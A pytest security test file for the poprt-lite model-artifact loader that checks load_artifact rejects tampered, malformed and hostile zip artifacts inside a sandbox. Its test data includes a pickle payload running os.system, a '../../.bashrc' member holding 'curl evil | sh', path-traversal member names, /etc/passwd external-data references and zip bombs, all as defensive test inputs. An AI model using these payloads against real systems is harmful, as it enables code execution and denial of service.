"""Hostile artifacts: `load_artifact` refuses them with one line, before anything is extracted or run.

Every load here runs inside `sandbox`, which makes pickle, marshal, importlib, exec/eval, zip
extraction, onnxruntime sessions and any file write raise (and records the attempt), and checks
afterwards that no module was imported and nothing appeared on disk.
"""

from __future__ import annotations

import builtins
import contextlib
import importlib
import importlib.util
import io
import json
import marshal
import os
import pickle
import struct
import sys
import tempfile
import time
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import onnxruntime
import pytest

from poprt_lite import compile, ir
from poprt_lite.ir.artifact import DIGEST_MEMBER, MANIFEST_MEMBER, MODEL_MEMBER, WEIGHTS_MEMBER, load_artifact, sha256
from poprt_lite.compiler import CompileOptions
from poprt_lite.errors import ArtifactError
from poprt_lite.runtime import ModelRunner

from . import models

Entries = list[tuple[str, bytes]]


def packed_artifact(folder: Path) -> Path:
    """Compile the small encoder, packed, into `folder` (model m.onnx and the artifact)."""
    source = folder / "encoder.onnx"
    onnx.save_model(models.encoder(), source)
    options = CompileOptions(
        input_shape={"input_ids": (2, 16), "attention_mask": (2, 16)},
        pack_args={"max_valid_num": "4", "segment_max_size": "16"},
    )
    return compile(source, folder / "m.onnx", output_dir=folder, export_popef=True, options=options).artifact


@pytest.fixture(scope="module")
def good(tmp_path_factory) -> Path:
    """A real packed artifact of the small encoder."""
    return packed_artifact(tmp_path_factory.mktemp("good"))


@pytest.fixture(scope="module")
def good_members(good) -> dict[str, bytes]:
    with zipfile.ZipFile(good) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_zip(path: Path, entries: Entries, compression: int = zipfile.ZIP_STORED) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, which one case wants
        with zipfile.ZipFile(path, "w", compression=compression) as archive:
            for name, data in entries:
                archive.writestr(zipfile.ZipInfo(name), data)
    return path


def resigned(members: dict[str, bytes], manifest: dict | None = None, *, manifest_bytes: bytes | None = None, model: bytes | None = None) -> Entries:
    """The members with the manifest (and model) replaced and every checksum recomputed, so that
    only the check under test can fail."""
    model = members[MODEL_MEMBER] if model is None else model
    if manifest_bytes is None:
        manifest = dict(json.loads(members[MANIFEST_MEMBER]) if manifest is None else manifest)
        manifest["model_sha256"] = sha256(model)
        manifest_bytes = json.dumps(manifest).encode()
    return [(MANIFEST_MEMBER, manifest_bytes), (DIGEST_MEMBER, sha256(manifest_bytes).encode()), (MODEL_MEMBER, model)]


def patch_header(data: bytes, name: str, *, local: tuple[int, str], central: tuple[int, str], value: int) -> bytes:
    """Overwrite one field of `name`'s local and central-directory headers (offset, struct format)."""
    out = bytearray(data)
    encoded = name.encode()
    for signature, (offset, fmt), name_at in ((b"PK\x03\x04", local, 30), (b"PK\x01\x02", central, 46)):
        start = 0
        while (start := out.find(signature, start)) != -1:
            if out[start + name_at : start + name_at + len(encoded)] == encoded:
                struct.pack_into(fmt, out, start + offset, value)
            start += 4
    return bytes(out)


# --- the sandbox ------------------------------------------------------------------------------


def tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


@contextlib.contextmanager
def sandbox(monkeypatch, *folders: Path):
    """Forbid executing, importing, unpickling, extracting and writing while the body runs."""
    attempts: list[str] = []

    def forbidden(what: str) -> Callable:
        def refuse(*args, **kwargs):
            attempts.append(what)
            raise AssertionError(f"{what} called while loading an artifact")

        return refuse

    real_open, real_os_open = io.open, os.open

    def read_only_open(file, mode="r", *args, **kwargs):
        if any(c in mode for c in "wax+"):
            attempts.append(f"open({file!r}, {mode!r})")
            raise AssertionError(f"write to {file!r} while loading an artifact")
        return real_open(file, mode, *args, **kwargs)

    def read_only_os_open(file, flags, *args, **kwargs):
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND):
            attempts.append(f"os.open({file!r})")
            raise AssertionError(f"write to {file!r} while loading an artifact")
        return real_os_open(file, flags, *args, **kwargs)

    targets = [
        (pickle, "loads"), (pickle, "load"), (pickle, "Unpickler"), (marshal, "loads"), (marshal, "load"),
        (importlib, "import_module"), (importlib.util, "spec_from_file_location"), (importlib.util, "module_from_spec"),
        (builtins, "exec"), (builtins, "eval"), (np, "load"),
        (zipfile.ZipFile, "extract"), (zipfile.ZipFile, "extractall"),
        (onnxruntime, "InferenceSession"), (tempfile, "mkstemp"), (tempfile, "mkdtemp"),
    ]
    before = {folder: tree(folder) for folder in folders}
    modules = set(sys.modules)
    with monkeypatch.context() as m:
        for owner, name in targets:
            m.setattr(owner, name, forbidden(f"{getattr(owner, '__name__', owner)}.{name}"))
        m.setattr(builtins, "open", read_only_open)
        m.setattr(io, "open", read_only_open)
        m.setattr(os, "open", read_only_os_open)
        yield attempts
    assert attempts == []
    assert set(sys.modules) - modules == set()
    assert {folder: tree(folder) for folder in folders} == before


@pytest.fixture
def load_refused(monkeypatch, tmp_path, good):
    """Load `path` in the sandbox; return the ArtifactError message."""
    load_artifact(good)  # warm up lazy imports, so that the sandbox can insist on none
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)

    def load(path: Path) -> str:
        with sandbox(monkeypatch, tmp_path, cwd):
            with pytest.raises(ArtifactError) as info:
                load_artifact(path)
        message = str(info.value)
        assert "\n" not in message
        return message

    return load


def test_good_artifact_loads_in_the_sandbox(monkeypatch, tmp_path, good):
    load_artifact(good)
    with sandbox(monkeypatch, tmp_path, good.parent):
        loaded = load_artifact(good)
    assert loaded.manifest["pack"]["max_valid_num"] == 4


# --- checksums and versions -------------------------------------------------------------------


def test_tampered_manifest(load_refused, tmp_path, good_members):
    manifest = json.loads(good_members[MANIFEST_MEMBER])
    manifest["pack"]["max_valid_num"] = 400
    path = write_zip(tmp_path / "a.popef", [*{**good_members, MANIFEST_MEMBER: json.dumps(manifest).encode()}.items()])
    assert load_refused(path) == f"artifact '{path}': manifest checksum mismatch (corrupted or edited); re-export it"


def test_tampered_manifest_checksum(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", [*{**good_members, DIGEST_MEMBER: b"0" * 64}.items()])
    assert load_refused(path) == f"artifact '{path}': manifest checksum mismatch (corrupted or edited); re-export it"


def test_tampered_model(load_refused, tmp_path, good_members):
    model = bytearray(good_members[MODEL_MEMBER])
    model[len(model) // 2] ^= 0xFF
    path = write_zip(tmp_path / "a.popef", [*{**good_members, MODEL_MEMBER: bytes(model)}.items()])
    assert load_refused(path) == f"artifact '{path}': model checksum mismatch (corrupted or tampered); re-export it"


@pytest.mark.parametrize("version", [2, 0, "1", 1.0, True, None])
def test_unknown_format_version(load_refused, tmp_path, good_members, version):
    manifest = json.loads(good_members[MANIFEST_MEMBER])
    manifest["format_version"] = version
    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest))
    assert load_refused(path) == f"artifact '{path}' has format version {version!r}; this poprt-lite reads version 1, re-export it"


def test_unknown_format_name(load_refused, tmp_path, good_members):
    manifest = {**json.loads(good_members[MANIFEST_MEMBER]), "format": "popef"}
    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest))
    assert load_refused(path) == f"artifact '{path}' is not a poprt-lite artifact (format 'popef')"


@pytest.mark.parametrize(
    ("manifest_bytes", "message"),
    [
        (b"[1, 2, 3]", "is not a poprt-lite artifact (format 'list')"),
        (b'"just a string"', "is not a poprt-lite artifact (format 'str')"),
        (b"{not json", ": manifest is not valid JSON; re-export it"),
        (b"\xff\xfe\x00garbage", ": manifest is not valid JSON; re-export it"),
        (b"[" * 200_000 + b"]" * 200_000, ": manifest is not valid JSON; re-export it"),  # nesting bomb
    ],
    ids=["list", "string", "syntax", "binary", "deep-nesting"],
)
def test_manifest_that_is_not_a_manifest(load_refused, tmp_path, good_members, manifest_bytes, message):
    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest_bytes=manifest_bytes))
    assert load_refused(path) == f"artifact '{path}'{' ' if message[0] != ':' else ''}{message}"


def test_model_that_is_not_onnx(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", resigned(good_members, model=b"\x0a\xff\xff\xff\xff\x0f nonsense"))
    assert load_refused(path) == f"artifact '{path}': model.onnx is not a valid ONNX model; re-export it"


def test_pickle_as_model_is_never_unpickled(load_refused, tmp_path, good_members):
    """A pickle that would create a file when unpickled, under every checksum recomputed."""
    marker = tmp_path / "pwned"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    path = write_zip(tmp_path / "a.popef", resigned(good_members, model=pickle.dumps(Exploit())))
    assert load_refused(path) == f"artifact '{path}': model.onnx is not a valid ONNX model; re-export it"
    assert not marker.exists()


@pytest.mark.parametrize("location", ["/etc/passwd", "../../secret.bin", "weights.bin"])
def test_model_with_external_data_is_refused(load_refused, tmp_path, good_members, location):
    """A runtime would read the file the tensor names: an artifact must hold all its weights."""
    model = onnx.load_from_string(good_members[MODEL_MEMBER])
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=location)
    path = write_zip(tmp_path / "a.popef", resigned(good_members, model=model.SerializeToString()))
    message = f"artifact '{path}': tensor '{tensor.name}' of model.onnx refers to external data; an artifact must be self-contained"
    assert load_refused(path) == message


# --- members ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rename", "bad"),
    [
        ({MODEL_MEMBER: "/model.onnx"}, "/model.onnx"),
        ({MODEL_MEMBER: "../model.onnx"}, "../model.onnx"),
        ({MODEL_MEMBER: "sub/../../model.onnx"}, "sub/../../model.onnx"),
        ({MANIFEST_MEMBER: "..\\manifest.json"}, "..\\manifest.json"),
        ({MODEL_MEMBER: "C:/model.onnx"}, "C:/model.onnx"),
    ],
    ids=["absolute", "dotdot", "nested-dotdot", "backslash-dotdot", "drive"],
)
def test_member_with_unsafe_path(load_refused, tmp_path, good_members, rename, bad):
    entries = [(rename.get(name, name), data) for name, data in good_members.items()]
    path = write_zip(tmp_path / "a.popef", entries)
    assert load_refused(path) == f"artifact '{path}' has a member with an unsafe path {bad!r} (absolute or with '..'); refusing it"


def test_extra_member_with_unsafe_path(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", [*good_members.items(), ("../../.bashrc", b"curl evil | sh")])
    assert load_refused(path) == f"artifact '{path}' has a member with an unsafe path '../../.bashrc' (absolute or with '..'); refusing it"


def test_extra_member(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", [*good_members.items(), ("plugin.py", b"import os; os.system('id')")])
    assert load_refused(path) == f"artifact '{path}' has unexpected members ['plugin.py']; it was not written by poprt-lite"


def test_missing_member(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", [(n, d) for n, d in good_members.items() if n != DIGEST_MEMBER])
    assert load_refused(path) == f"artifact '{path}' is missing members ['manifest.sha256']; it was not written by poprt-lite"


def test_duplicate_member(load_refused, tmp_path, good_members):
    """Two `model.onnx` entries: which one a reader sees depends on the reader; refuse both."""
    path = write_zip(tmp_path / "a.popef", [*good_members.items(), (MODEL_MEMBER, b"other")])
    assert load_refused(path) == f"artifact '{path}' holds member 'model.onnx' more than once; refusing it"


def test_encrypted_member(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", [*good_members.items()])
    # general-purpose flag bit 0: encrypted
    path.write_bytes(patch_header(path.read_bytes(), MODEL_MEMBER, local=(6, "<H"), central=(8, "<H"), value=1))
    message = f"artifact '{path}' is corrupt (File 'model.onnx' is encrypted, password required for extraction); re-export it"
    assert load_refused(path) == message


def test_unknown_compression_method(load_refused, tmp_path, good_members):
    path = write_zip(tmp_path / "a.popef", [*good_members.items()])
    path.write_bytes(patch_header(path.read_bytes(), MODEL_MEMBER, local=(8, "<H"), central=(10, "<H"), value=99))
    message = f"artifact '{path}' is corrupt (That compression method is not supported); re-export it"
    assert load_refused(path) == message


# --- zip bombs --------------------------------------------------------------------------------

BOMB = 100 * 2**20  # 100 MB of zeros, about 100 KB deflated


@pytest.fixture(scope="module")
def bomb_bytes(good_members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(MANIFEST_MEMBER, good_members[MANIFEST_MEMBER])
        archive.writestr(DIGEST_MEMBER, good_members[DIGEST_MEMBER])
        info = zipfile.ZipInfo(MODEL_MEMBER)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as member:
            chunk = bytes(2**20)
            for _ in range(BOMB // len(chunk)):
                member.write(chunk)
    data = buffer.getvalue()
    assert len(data) < BOMB // 500
    return data


def test_zip_bomb(load_refused, tmp_path, bomb_bytes):
    path = tmp_path / "bomb.popef"
    path.write_bytes(bomb_bytes)
    tracemalloc.start()
    try:
        message = load_refused(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert message == f"artifact '{path}' expands to far more than its size; refusing it (zip bomb?)"
    assert peak < 10 * 2**20


def test_zip_bomb_with_lying_sizes(load_refused, tmp_path, bomb_bytes):
    """The headers claim 1000 bytes; the reader stops there instead of inflating 100 MB."""
    data = patch_header(bomb_bytes, MODEL_MEMBER, local=(22, "<I"), central=(24, "<I"), value=1000)
    path = tmp_path / "bomb.popef"
    path.write_bytes(data)
    tracemalloc.start()
    try:
        message = load_refused(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert message == f"artifact '{path}' is corrupt (Bad CRC-32 for file 'model.onnx'); re-export it"
    assert peak < 10 * 2**20


# --- not an artifact at all ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [b"", b"not a zip file at all", bytes(np.random.default_rng(3).integers(0, 256, 10_000, dtype=np.uint8)), "onnx"],
    ids=["empty", "text", "random", "onnx-model"],
)
def test_file_that_is_not_a_zip(load_refused, tmp_path, content):
    path = tmp_path / "a.popef"
    path.write_bytes(models.encoder().SerializeToString() if content == "onnx" else content)
    assert load_refused(path) == f"'{path}' is not a poprt-lite artifact (File is not a zip file); compile one with export_popef"


def test_truncated_zip(load_refused, tmp_path, good):
    path = tmp_path / "a.popef"
    data = good.read_bytes()
    path.write_bytes(data[: len(data) - 30])  # the end of the central directory is cut off
    assert load_refused(path) == f"'{path}' is not a poprt-lite artifact (File is not a zip file); compile one with export_popef"


def test_runner_refuses_before_creating_a_session(monkeypatch, tmp_path, good_members):
    """The runtime loads through `load_artifact`: a hostile artifact never reaches onnxruntime."""
    manifest = {**json.loads(good_members[MANIFEST_MEMBER]), "format_version": 99}
    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest))
    with sandbox(monkeypatch, tmp_path):
        with pytest.raises(ArtifactError, match=r"has format version 99; this poprt-lite reads version 1, re-export it$"):
            ModelRunner(path)


def test_many_members_are_refused_quickly(load_refused, tmp_path, good_members):
    """50,000 copies of one name: refused at once (no quadratic scan of the member list). The bound is
    on this process's CPU time, which other processes' load does not stretch: 5 s is 25x the 0.2 s
    measured (a quadratic scan of the names takes minutes)."""
    path = tmp_path / "many.popef"
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")
        for name, data in good_members.items():
            archive.writestr(name, data)
        for _ in range(50_000):
            archive.writestr(zipfile.ZipInfo("x"), b"")
    start = time.process_time()
    assert load_refused(path) == f"artifact '{path}' holds member 'x' more than once; refusing it"
    assert time.process_time() - start < 5


# --- the weights member of models over 2 GB ---------------------------------------------------


@pytest.fixture(scope="module")
def good_big(tmp_path_factory) -> Path:
    """A real packed artifact of the small encoder, written as if it were over 2 GB: its weights
    in the stored member WEIGHTS_MEMBER."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ir, "PROTOBUF_LIMIT", 1000)
        return packed_artifact(tmp_path_factory.mktemp("good_big"))


@pytest.fixture(scope="module")
def big_members(good_big) -> dict[str, bytes]:
    with zipfile.ZipFile(good_big) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def resigned_big(members: dict[str, bytes], *, model: onnx.ModelProto | None = None, weights: bytes | None = None) -> Entries:
    """`resigned` for an artifact with a weights member: model and weights replaced, every
    checksum recomputed."""
    weights = members[WEIGHTS_MEMBER] if weights is None else weights
    model_bytes = members[MODEL_MEMBER] if model is None else model.SerializeToString()
    manifest = {**json.loads(members[MANIFEST_MEMBER]), "weights_sha256": sha256(weights)}
    return [*resigned(members, manifest, model=model_bytes), (WEIGHTS_MEMBER, weights)]


def external_tensor(model: onnx.ModelProto) -> onnx.TensorProto:
    return next(t for t in model.graph.initializer if onnx.external_data_helper.uses_external_data(t))


def test_artifact_with_weights_loads_in_the_sandbox_and_runs(monkeypatch, tmp_path, good_big, big_members):
    assert sorted(big_members) == sorted([MODEL_MEMBER, MANIFEST_MEMBER, DIGEST_MEMBER, WEIGHTS_MEMBER])
    load_artifact(good_big)
    with sandbox(monkeypatch, tmp_path, good_big.parent):
        loaded = load_artifact(good_big)
    assert bytes(loaded.weights) == big_members[WEIGHTS_MEMBER]
    assert json.loads(big_members[MANIFEST_MEMBER])["weights_sha256"] == sha256(big_members[WEIGHTS_MEMBER])
    # the same answers as the converted model file with its external data
    feeds = {
        "input_ids": np.array([[5, 6, 7, 8, 9, 3, 4] + [0] * 9, [0] * 16], np.int64),
        "attention_mask": np.array([[1, 1, 1, 2, 2, 2, 2] + [0] * 9, [0] * 16], np.int64),
        "position_ids": np.array([[0, 1, 2, 0, 1, 2, 3] + [0] * 9, [0] * 16], np.int64),
        "unpack_info": np.array([3, 4, 0, 0], np.int32),
    }
    names = [i.name for i in onnxruntime.InferenceSession(str(good_big.parent / "m.onnx")).get_inputs()]
    feeds = {k: v for k, v in feeds.items() if k in names}
    want = onnxruntime.InferenceSession(str(good_big.parent / "m.onnx")).run(None, feeds)
    got = ModelRunner(loaded).session.run(None, feeds)
    np.testing.assert_array_equal(got[0], want[0])


def test_tampered_weights(load_refused, tmp_path, big_members):
    weights = bytearray(big_members[WEIGHTS_MEMBER])
    weights[len(weights) // 2] ^= 0xFF
    path = write_zip(tmp_path / "a.popef", [*{**big_members, WEIGHTS_MEMBER: bytes(weights)}.items()])
    assert load_refused(path) == f"artifact '{path}': weights checksum mismatch (corrupted or tampered); re-export it"


def test_compressed_weights_member(load_refused, tmp_path, big_members):
    entries = resigned_big(big_members)
    path = tmp_path / "a.popef"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED if name == WEIGHTS_MEMBER else zipfile.ZIP_STORED)
    message = f"artifact '{path}': member {WEIGHTS_MEMBER} is compressed or encrypted; poprt-lite stores it plain, re-export it"
    assert load_refused(path) == message


@pytest.mark.parametrize("location", ["/etc/passwd", "../model.onnx.data", "weights.bin", MODEL_MEMBER])
def test_external_data_outside_the_weights_member(load_refused, tmp_path, big_members, location):
    model = onnx.load_from_string(big_members[MODEL_MEMBER])
    tensor = external_tensor(model)
    next(e for e in tensor.external_data if e.key == "location").value = location
    path = write_zip(tmp_path / "a.popef", resigned_big(big_members, model=model))
    message = f"artifact '{path}': tensor '{tensor.name}' of {MODEL_MEMBER} refers to external data other than the member {WEIGHTS_MEMBER}; refusing it"
    assert load_refused(path) == message


@pytest.mark.parametrize(("key", "value"), [("offset", "999999999"), ("length", "4"), ("offset", "-1"), ("length", "1e3")])
def test_tensor_not_inside_the_weights_member(load_refused, tmp_path, big_members, key, value):
    model = onnx.load_from_string(big_members[MODEL_MEMBER])
    tensor = external_tensor(model)
    next(e for e in tensor.external_data if e.key == key).value = value
    path = write_zip(tmp_path / "a.popef", resigned_big(big_members, model=model))
    message = f"artifact '{path}': tensor '{tensor.name}' of {MODEL_MEMBER} does not lie inside {WEIGHTS_MEMBER} at the size of its type and shape; re-export it"
    assert load_refused(path) == message


def test_unknown_external_data_key(load_refused, tmp_path, big_members):
    model = onnx.load_from_string(big_members[MODEL_MEMBER])
    tensor = external_tensor(model)
    tensor.external_data.add(key="basepath", value="/etc")
    path = write_zip(tmp_path / "a.popef", resigned_big(big_members, model=model))
    message = f"artifact '{path}': tensor '{tensor.name}' of {MODEL_MEMBER} refers to external data other than the member {WEIGHTS_MEMBER}; refusing it"
    assert load_refused(path) == message


def test_weights_member_nobody_uses(load_refused, tmp_path, good_members):
    """An artifact of a small model with a weights member added: refused, not ignored."""
    weights = b"\0" * 64
    manifest = {**json.loads(good_members[MANIFEST_MEMBER]), "weights_sha256": sha256(weights)}
    path = write_zip(tmp_path / "a.popef", [*resigned(good_members, manifest), (WEIGHTS_MEMBER, weights)])
    message = f"artifact '{path}' has a member {WEIGHTS_MEMBER} that {MODEL_MEMBER} does not use; it was not written by poprt-lite"
    assert load_refused(path) == message


def test_external_data_without_the_weights_member(load_refused, tmp_path, big_members):
    """The model of a weights artifact with the weights member taken away."""
    entries = [(name, data) for name, data in resigned_big(big_members) if name != WEIGHTS_MEMBER]
    path = write_zip(tmp_path / "a.popef", entries)
    tensor = external_tensor(onnx.load_from_string(big_members[MODEL_MEMBER]))
    message = f"artifact '{path}': tensor '{tensor.name}' of {MODEL_MEMBER} refers to external data; an artifact must be self-contained"
    assert load_refused(path) == message
